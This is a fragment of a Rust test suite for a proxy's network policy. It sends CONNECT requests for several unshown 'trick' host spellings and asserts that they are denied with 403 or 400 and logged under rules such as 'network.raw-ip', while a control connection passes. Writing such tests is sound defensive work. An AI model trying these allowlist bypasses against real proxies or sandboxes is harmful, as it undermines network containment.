    for (i, t) in tricks.iter().enumerate() {
        script.push_str(&format!(
            "t A{i} {ec} raw x 0 '{c}-{i}' --proxy 127.0.0.1:3128 --connect '{t}:{p}'\n"
        ));
    }
    script.push_str(&format!(
        "t CTL {ec} raw x 0 '{c}-control' --proxy 127.0.0.1:3128 --connect {name}:{p}\n"
    ));
    let o = run(
        &env,
        &pol(&[(name, "127.0.0.1")], &[(name, &[p])], "", ""),
        &script,
    );
    ran(&o);
    for (i, t) in tricks.iter().enumerate() {
        let r = tagged_json(&o, &format!("A{i}"));
        let status = r["connect"].as_str().unwrap_or("");
        assert!(
            status.contains(" 403") || status.contains(" 400"),
            "CONNECT {t}:{p}: {r}\n{}",
            show(&o)
        );
    }
    assert_eq!(tagged_json(&o, "CTL")["reply"], "", "a sink that only logs");
    assert_eq!(
        sink.count("CONN"),
        1,
        "only the control connected:\n{}",
        sink.log()
    );
    let log = sink.log().replace(&format!("{c}-control"), "");
    assert!(!log.contains(&c), "{log}");
    assert!(sink.saw(&format!("{c}-control")), "{}", sink.log());
    let evs = events(&env);
    logged(&evs, "network", "deny", &["127.0.0.1", "network.raw-ip"]);
    logged(&evs, "network", "deny", &["\"host\":\"localhost\""]);
});

/// Writes both clients the tests run inside.
fn setup_client(env: &Env) {
    let _ = client(env);
}

#[track_caller]
fn expect(o: &Output, want: &[(&str, &str)]) {
    for (tag, v) in want {
        assert_eq!(tagged(o, tag).trim(), *v, "{tag}\n{}", show(o));
    }
}
